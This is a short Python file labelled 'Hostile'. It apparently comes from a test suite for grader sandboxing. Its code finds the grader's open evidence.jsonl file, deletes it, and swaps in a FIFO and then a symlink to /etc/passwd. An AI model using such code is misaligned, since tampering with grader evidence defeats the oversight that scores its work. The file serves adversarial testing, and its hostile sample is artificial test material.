"""Hostile: swap the grader's evidence file for a FIFO, then for a symlink to another file."""
import os

for _fd in os.listdir("/proc/self/fd"):
    try:
        _path = os.readlink(f"/proc/self/fd/{_fd}")
    except OSError:
        continue
    if not _path.endswith("evidence.jsonl"):
        continue
    _path = _path.replace(" (deleted)", "")
    for _swap in (lambda p: os.mkfifo(p), lambda p: os.symlink("/etc/passwd", p)):
        try:
            os.unlink(_path)
        except OSError:
            pass
        try:
            _swap(_path)
        except OSError:
            pass
WON = False  # @tail
